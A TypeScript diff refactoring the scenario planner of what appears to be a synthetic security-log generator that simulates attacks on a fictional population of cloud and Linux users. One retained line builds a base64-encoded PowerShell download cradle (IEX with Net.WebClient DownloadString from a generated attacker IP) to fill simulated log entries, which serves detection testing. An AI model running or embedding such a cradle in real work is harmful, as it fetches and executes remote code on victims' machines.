@@ -11,6 +11,8 @@ import type { Server } from '../population/inventory.js';
 import { ZoneOffsetCache } from '../population/timezones.js';
 import { ConfigError } from '../util/config-errors.js';
 import { Rng } from '../util/rng.js';
+import { hex } from '../population/aws-ids.js';
+import { javaMediumDate } from '../encode/time-format.js';
 import type { ScenariosConfig } from './config.js';
 import type { Attacker } from '../traffic/shard-source.js';
 import { ATTACKER_AGENTS, ATTACKER_BROWSERS, ATTACKER_NETWORKS } from './library/attackers.js';
@@ -45,6 +47,11 @@ export interface ScenarioPlan {
   readonly skipped: readonly { readonly name: string; readonly missing: readonly string[] }[];
   /** Every step of the instances that start on UTC day `day` (days since 1970-01-01), in time order. */
   planDay(day: number): PlannedStep[];
+}
+
+/** Steps in the order they are written: by time, then instance, then their order in it. */
+export function byTime(a: PlannedStep, b: PlannedStep): number {
+  return a.timeMs - b.timeMs || (a.instance < b.instance ? -1 : a.instance > b.instance ? 1 : a.order - b.order);
 }
 
 /** The sources a scenario writes (`required`: only those it cannot run without). */
@@ -106,6 +113,11 @@ function suits(when: Seasonality, minute: number, weekday: number, actor: Actor)
   }
 }
 
+/** Whether `name` names the actor: its id, e-mail or user name (AWS or Linux). */
+function names(name: string, a: Actor): boolean {
+  return name === a.id || name === a.email || name === a.user_name || name === a.linux_user;
+}
+
 function victimTakes(s: ScenarioSpec, a: Actor, config: ScenariosConfig): boolean {
   const v = s.victim;
   if (a.kind !== v.kind) return false;
@@ -115,7 +127,7 @@ function victimTakes(s: ScenarioSpec, a: Actor, config: ScenariosConfig): boolea
   if (needs.includes('iam_user') && a.identity_type !== 'IAMUser') return false;
   if (needs.includes('sso') && a.identity_style !== 'sso') return false;
   const wanted = config.victims;
-  if (wanted?.actors) return wanted.actors.some((n) => n === a.id || n === a.email || n === a.user_name || n === a.linux_user);
+  if (wanted?.actors) return wanted.actors.some((n) => names(n, a));
   const roles = wanted?.roles ?? v.roles;
   return roles === undefined || (a.role !== null && roles.includes(a.role));
 }
@@ -132,8 +144,9 @@ function lazyFill(step: StepSpec, vars: Readonly<Record<string, string>>, own: R
         ...vars,
         ...own,
         'time.iso': new Date(whenMs).toISOString().slice(0, 19) + 'Z',
-        'time.java': javaDate(whenMs, ''),
-        'time.java_comma': javaDate(whenMs, ','),
+        // As IAM writes dates (`Aug 1, 2024 1:33:28 PM`), and as other services do (`Aug 1, 2024, 1:33:28 PM`).
+        'time.java': javaMediumDate(whenMs).replace(/(\d{4}),/, '$1'),
+        'time.java_comma': javaMediumDate(whenMs),
         'time.lambda': new Date(whenMs).toISOString().slice(0, 23) + '+0000',
       };
       done = {
@@ -162,34 +175,17 @@ function fillDeep(value: unknown, vars: Readonly<Record<string, string>>): unkno
   return value;
 }
 
-const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
-/** A date as IAM's responses write it (`Aug 1, 2024 1:33:28 PM`, UTC). */
-function javaDate(ms: number, comma: string): string {
-  const d = new Date(ms);
-  const h = d.getUTCHours();
-  const mm = String(d.getUTCMinutes()).padStart(2, '0');
-  const ss = String(d.getUTCSeconds()).padStart(2, '0');
-  return `${MONTHS[d.getUTCMonth()]} ${d.getUTCDate()}, ${d.getUTCFullYear()}${comma} ${h % 12 === 0 ? 12 : h % 12}:${mm}:${ss} ${h < 12 ? 'AM' : 'PM'}`;
-}
-
-const HEX = '0123456789abcdef';
-function hex(rng: Rng, n: number): string {
-  let s = '';
-  for (let i = 0; i < n; i++) s += HEX[rng.int(16)];
-  return s;
-}
-
 /** Names attackers give what they create: plausible enough to pass a glance. */
 const RESOURCE_STEMS = ['backup', 'svc-sync', 'ops-automation', 'monitoring', 'support', 'ci-deploy', 'audit-tmp', 'dev-test'];
 
 /** The placeholders an instance fills: what steps may name. */
-export function instanceVars(actor: Actor, server: Server | null, attackerIp: string, attackerAgent: string, browser: string, rng: Rng, instance: string): Record<string, string> {
+export function instanceVars(actor: Actor, server: Server | null, attacker: Attacker, rng: Rng, instance: string): Record<string, string> {
   const stem = RESOURCE_STEMS[rng.int(RESOURCE_STEMS.length)];
   return {
     instance,
-    'attacker.ip': attackerIp,
-    'attacker.user_agent': attackerAgent,
-    'attacker.browser': browser,
+    'attacker.ip': attacker.ip,
+    'attacker.user_agent': attacker.agent,
+    'attacker.browser': attacker.browser,
     'victim.id': actor.id,
     'victim.name': actor.display_name,
     'victim.email': actor.email ?? actor.user_name,
@@ -213,7 +209,7 @@ export function instanceVars(actor: Actor, server: Server | null, attackerIp: st
     'logon.1': String(1_000_000 + rng.int(899_000_000)),
     name: `${stem}-${hex(rng, 6)}`,
     // The download cradle a macro hands to PowerShell, as -EncodedCommand takes it (UTF-16LE, base64).
-    'attacker.ps_enc': Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${attackerIp}/a')`, 'utf16le').toString('base64'),
+    'attacker.ps_enc': Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${attacker.ip}/a')`, 'utf16le').toString('base64'),
     hex8: hex(rng, 8),
     hex16: hex(rng, 16),
     port: String(32_768 + rng.int(28_000)),
@@ -232,7 +228,7 @@ export function planScenarios(
   const selected = config.enabled ? selectScenarios(config, library) : [];
   // Named victims must name someone (a typo would silently run nothing).
   const named = config.victims?.actors ?? [];
-  const unknown = named.flatMap((n, i) => (actors.some((a) => n === a.id || n === a.email || n === a.user_name || n === a.linux_user) ? [] : [{ path: `scenarios.victims.actors[${i}]`, value: JSON.stringify(n), allowed: 'an actor of the population: its id, e-mail or user name' }]));
+  const unknown = named.flatMap((n, i) => (actors.some((a) => names(n, a)) ? [] : [{ path: `scenarios.victims.actors[${i}]`, value: JSON.stringify(n), allowed: 'an actor of the population: its id, e-mail or user name' }]));
   if (config.enabled && unknown.length > 0) throw new ConfigError('(config)', unknown);
   const running: ScenarioSpec[] = [];
   const skipped: { name: string; missing: string[] }[] = [];
@@ -249,7 +245,7 @@ export function planScenarios(
   }
   const windowStart = Math.max(startMs, config.window?.start ? Date.parse(config.window.start) : -Infinity);
   const windowEnd = config.window?.end ? Date.parse(config.window.end) : Infinity;
-  const able = running.filter((s, k) => victims[k].length > 0 && (!s.server || serverChoices[k].length > 0));
+  const ok = running.map((s, k) => victims[k].length > 0 && (!s.server || serverChoices[k].length > 0));
 
   const zones = new ZoneOffsetCache();
   /** Whether a step names values of each repetition (its number, file, time, sequence): then it is filled per repetition. */
@@ -275,7 +271,7 @@ export function planScenarios(
     if (dayStart + DAY_MS <= windowStart || dayStart >= windowEnd) return steps;
     const date = new Date(dayStart).toISOString().slice(0, 10).replaceAll('-', '');
     running.forEach((s, k) => {
-      if (!able.includes(s)) return;
+      if (!ok[k]) return;
       const rng = new Rng(seed, `scenarios/${s.name}/${day}`);
       const count = rng.poisson(config.rates[s.name] ?? config.per_day);
       const when = config.seasonality ?? s.when;
@@ -292,19 +288,17 @@ export function planScenarios(
           start = dayStart + rng.int(DAY_MS);
         }
         const { cidr, ...network } = ATTACKER_NETWORKS[rng.int(ATTACKER_NETWORKS.length)];
-        const attackerIp = randomAddressIn(rng, cidr);
-        const attackerAgent = ATTACKER_AGENTS[rng.int(ATTACKER_AGENTS.length)];
-        const browser = ATTACKER_BROWSERS[rng.int(ATTACKER_BROWSERS.length)];
-        const attacker: Attacker = { ip: attackerIp, agent: attackerAgent, browser, ...network };
+        const ip = randomAddressIn(rng, cidr);
+        const agent = ATTACKER_AGENTS[rng.int(ATTACKER_AGENTS.length)];
+        const attacker: Attacker = { ip, agent, browser: ATTACKER_BROWSERS[rng.int(ATTACKER_BROWSERS.length)], ...network };
         const server = s.server ? serverChoices[k][rng.int(serverChoices[k].length)] : null;
         const full = rng.float() < config.chain_ratio;
         if (start < windowStart || start >= windowEnd) continue;
         const instance = `${s.name}-${date}-${n + 1}`;
-        const vars = instanceVars(actor, server, attackerIp, attackerAgent, browser, rng, instance);
+        const vars = instanceVars(actor, server, attacker, rng, instance);
         const fileBase = fnv1a(instance);
         let t = start;
         let order = 0;
-        let stop = false;
         const stepTimes = new Map<string, number[]>();
         for (const step of s.steps) {
           if (step.chance !== undefined && rng.float() >= step.chance) break;
@@ -340,12 +334,11 @@ export function planScenarios(
             steps.push({ timeMs: when, victim, scenario: s, step, instance, order: order++, filled, host, attacker, untilMs });
           }
           stepTimes.set(step.name, at);
-          if (step.stage_end && !full) stop = true;
-          if (stop) break;
+          if (step.stage_end && !full) break;
         }
       }
     });
-    return steps.sort((a, b) => a.timeMs - b.timeMs || (a.instance < b.instance ? -1 : a.instance > b.instance ? 1 : a.order - b.order));
+    return steps.sort(byTime);
   };
-  return { running: able, skipped, planDay };
+  return { running: running.filter((_, k) => ok[k]), skipped, planDay };
 }
